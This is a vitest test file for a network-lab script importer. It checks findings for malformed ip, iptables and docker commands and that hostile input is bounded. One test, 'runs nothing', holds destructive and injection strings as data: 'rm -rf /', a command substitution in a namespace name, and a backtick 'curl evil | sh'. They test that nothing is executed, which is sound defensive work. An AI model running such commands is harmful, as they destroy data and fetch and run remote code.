import { describe, expect, it, test } from 'vitest'
import { describeFinding } from '../../text/import'
import { LOCALES } from '../../text/locale'
import { importScript } from './import-script'
import { PAIR, told } from './testing'

describe('mistakes', () => {
  test.each([
    ['ip nets exec left ip link', '12 import-typo'],
    ['ip -n left router default via 10.7.0.2', '12 import-typo'],
    ['ip -n left route 10.9.0.0/16 via 10.7.0.2', '12 import-no-verb'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2(right)', '12 import-parenthesis'],
    ['ip link add sw type bridge //a switch', '12 import-slash-comment'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2 eth0', '12 import-dev-forgotten'],
    ['iptables -t nat -A PREROUTING --dport 80 -j DNAT --to-destination 10.7.0.2', '12 import-port-without-protocol'],
    ['ip -n left addr add 10.7.0.9 dev cable-l', '12 import-no-prefix'],
    ['ip -n left addr add 10.7.0.9/24 dev cable-l up', '12 import-trailing-up'],
    ['ip -n left route add 10.9.0.0/16 via 192.168.77.1', '12 gateway-not-connected'],
    ['ip -n left link set cable-r name eth0', '12 import-device-elsewhere'],
    ['ip -n left addr add 10.7.1.1/24 dev cable-x', '12 import-no-device'],
    ['ip -n middle link set lo up', '12 import-netns-unmade'],
    ['ip netns del left\nip -n left link set lo up', '13 import-netns-deleted'],
    ['iptables -t nat -A POSTROUTING -s 192.168.15.0/24 -j MASQUERADE', '12 nat-source-unknown'],
    [
      'ip netns add r\nip link add r0 netns r type veth peer name r1\nip -n r addr add 10.7.0.5/24 dev r0\nip link add r2 netns r type veth peer name r3\nip -n r addr add 10.7.0.6/24 dev r2',
      '16 overlapping-subnets',
    ],
    ['iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.7.0.2', '12 nat-not-forwarding'],
    ['ip addr add 10.1/16 dev cable-l', '12 import-device-elsewhere'],
    ['ip -n left addr add 10.1/16 dev cable-l', '12 address-short'],
    ['ip link add this-name-is-too-long type bridge', '12 bad-interface-name'],
    ['ip -n left link add link cable-l name v.5 type vlan id 5', '12 import-device-kind'],
    ['iptables -P FORWARD DROP', '12 filter-forward-unused'],
    ['iptables -A FORWARD -i eth0 -j DROP', '12 import-filter-nic'],
    ['iptables -A INPUT -p tcp --dport 80:90 -j DROP', '12 import-one-port'],
    ['iptables -A INPUT -p gre -j DROP', '12 import-rule-beyond'],
    ['iptables -A INPUT ! -d 10.0.0.1 -j DROP', '12 import-rule-beyond'],
    ['ip netns exec left dnsmasq --interface=cable-l', '12 import-dhcp'],
    ['arp -s 10.7.0.2 02:00:00:00:00:01', '12 import-neighbour-nowhere'],
    ['ip -n left neigh add proxy 10.7.0.2 dev cable-l', '12 import-neighbour'],
    ['ip -n left neigh add 10.7.0.2 dev cable-l', '12 import-missing'],
    ['ip -n left neigh add 10.7.0.2 lladdr 01:00:5e:00:00:01 dev cable-l', '12 mac-multicast'],
    ['ip addr add 10.9.0.1/24 dev eth0', '12 import-nic'],
    ['ip addr del 10.9.0.1/24 dev eth0', '12 import-nic'],
    ['ip -n left link set cable-r up', '12 import-up-elsewhere'],
    ['docker run -d nginx', '12 import-container-unnamed'],
    ['docker compose up -d', '12 import-container-beyond'],
    ['docker run -d --name web nginx\nip netns exec web ip addr', '13 import-container-nameless'],
    ['ip link add v0 type veth peer name v1\nip link set v0 netns 4711', '13 import-container-pid'],
    ['pipework eth1 web 10.9.0.9/24', '12 import-pipework-host'],
    ['pipework br7 web 10.9.0.9', '12 address-no-prefix'],
    ['pipework br7 web', '12 import-missing'],
    [
      "docker run -d --name web nginx\ndocker inspect -f '{{.State.Pid}}' web\nreadlink /proc/4400/ns/net\nreadlink /proc/$$/ns/net",
      '15 import-container-differs',
    ],
    ['ip netns exec left ifconfig cable-l mtu', '12 bad-mtu'],
    ['ip netns exec left ifconfig cable-l mtu abc', '12 bad-mtu'],
    ['ip -n left link set cable-l mtu 99999999999999999999', '12 bad-mtu'],
    ['ip netns exec left route add -net 10.9.0.0 netmask 255.255.0.0 gw 10.7.0.2 metric x', '12 out-of-range'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2 metric 4294967296', '12 out-of-range'],
    ['ip -n left route add 10.9.0.0/16 via 10.7.0.2 metric x', '12 out-of-range'],
    ['frobnicate --now', '12 import-unknown-command'],
    ['ip link set $DEV up', '12 import-unknown-value'],
    ['./setup.sh && bash other.sh', '12 import-unknown-command'],
  ])('%s', (lines, finding) => {
    expect(told(`${PAIR}${lines}\n`)).toContain(finding)
  })

  test.each([
    'ip netns exec left ifconfig cable-l mtu',
    'ip netns exec left route add -net 10.9.0.0 netmask 255.255.0.0 gw 10.7.0.2 metric x',
    'ip -n left route add 10.9.0.0/16 via 10.7.0.2 metric 1e300',
    'nsenter -t 5000000 -n ip link set lo up',
  ])('one bad number costs its line, and not the lab: %s', (line) => {
    const { lab, findings } = importScript(`${PAIR}${line}\n`)
    expect(Object.keys(lab.nodes)).toEqual(['host', 'left', 'right'])
    expect(findings.filter(({ severity }) => severity === 'error').map((finding) => finding.line)).toEqual([12])
  })

  it('sees through a remark in parentheses in notes', () => {
    const notes = `## notes\n\`\`\`\n${PAIR}ip -n left route add 10.9.0.0/16 via 10.7.0.2(right)\n\`\`\``
    expect(told(notes)).toContain('14 import-parenthesis')
    expect(importScript(notes).lab.nodes.left).toMatchObject({ routes: [{ to: '10.9.0.0/16', via: '10.7.0.2' }] })
  })

  it('tells of a block of code without any command once, and of what another language says not at all', () => {
    const notes = (fence: string) =>
      `## notes\n\`\`\`${fence}\nipp netns add blue\nred --> blue\n\`\`\`\n\`\`\`\nip netns add red\n\`\`\``
    const remarks = (fence: string) =>
      importScript(notes(fence)).findings.flatMap(({ line, code }) => (code === 'import-not-a-command' ? [line] : []))
    expect(remarks('')).toEqual([3])
    expect(remarks('bash')).toEqual([3])
    expect(remarks('txt')).toEqual([])
  })

  it('names what does something that no lab holds, once, where it comes first', () => {
    const { findings } = importScript(`git clone https://example.org/x\ncp x/y /usr/local/bin\n${PAIR}git pull\n`)
    expect(findings.filter(({ code }) => code === 'import-no-network')).toMatchObject([
      { line: 1, severity: 'info', params: { names: 'git, cp' } },
    ])
  })

  it('says of a gateway beside an address without a prefix length that the length is missing', () => {
    const { findings } = importScript(
      'ip netns add a\nip link add x type veth peer name y\nip link set x netns a up\nip -n a addr add 10.9.0.2 dev x\nip -n a route add default via 10.9.0.1',
    )
    const found = findings.find(({ code }) => code === 'gateway-not-connected')
    expect(found).toMatchObject({ line: 5, params: { single: '10.9.0.2', bits: 32 } })
    for (const locale of LOCALES) expect(found && describeFinding(found, locale).suggestion).toContain('/32')
  })

  it('has a message and a suggestion in each language for every finding', () => {
    const { findings } = importScript(`${PAIR}ip nets a\nip -n middle addr add 10.7.0.9 dev x\nfrobnicate`)
    expect(findings.length).toBeGreaterThan(3)
    for (const locale of LOCALES)
      for (const finding of findings)
        for (const words of Object.values(describeFinding(finding, locale))) expect(words).toMatch(/^(?!.*undefined).{4,}$/s)
  })
})

describe('hostile texts are bounded and reported', () => {
  test.each([
    ['nothing', '', 'import-nothing'],
    ['prose', 'Dear reader, nothing is to be done here.', 'import-nothing'],
    ['binary', '\u007fELF\0\u0001\u0002', 'import-not-text'],
    ['ten megabytes', 'ip netns add x\n'.repeat(700_000), 'import-too-large'],
    ['a loop without end', 'while true; do ip netns add x; done', 'import-endless'],
    ['a function that calls itself', 'f() { f; f; }\nf', 'import-endless'],
    ['a loop that multiplies', 'x=ab; for ((;;)); do x=$x$x; done', 'import-endless'],
    [
      'more routes than a namespace may have',
      `${PAIR}for i in {1..1100}; do ip -n left route add 10.9.$((i / 250)).$((i % 250))/32 via 10.7.0.2; done`,
      'too-many',
    ],
    ['a huge range', 'for i in {1..999999999}; do for j in {1..999999999}; do ip netns add n; done; done', 'import-endless'],
    ['deep nesting', `${'('.repeat(5000)}ip a${')'.repeat(5000)}`, 'import-nothing'],
    ['open quotes', `echo "\n`.repeat(2001), 'import-nothing'],
  ])('%s', (_, text, code) => {
    expect(importScript(text).findings.map((finding) => finding.code)).toContain(code)
  })

  it('reads five thousand lines without running out of steps', () => {
    const lines = Array.from(
      { length: 1000 },
      (_, n) =>
        `ip netns add n${n}\nip link add v${n} type veth peer name p${n}\nip link set p${n} netns n${n} up\nip -n n${n} addr add 10.${n >> 8}.${n & 255}.2/24 dev p${n}\nip link set v${n} up`,
    )
    expect(Object.keys(importScript(lines.join('\n')).lab.links)).toHaveLength(1000)
  })

  it('runs nothing', () => {
    const { findings, lab } = importScript(
      'ip netns add red\nrm -rf /\nip netns add $(rm -rf /; echo blue)\nip netns add `curl evil | sh`',
    )
    expect(findings.map(({ line, code }) => `${line} ${code}`)).toEqual(expect.arrayContaining(['2 import-not-run']))
    expect(Object.keys(lab.nodes)).toContain('red')
  })

  it('makes no node of prototype keys', () => {
    const { lab } = importScript('ip netns add __proto__\nip netns add constructor\nip netns add fine')
    expect(Object.keys(lab.nodes)).toEqual(['host', 'fine'])
  })
})
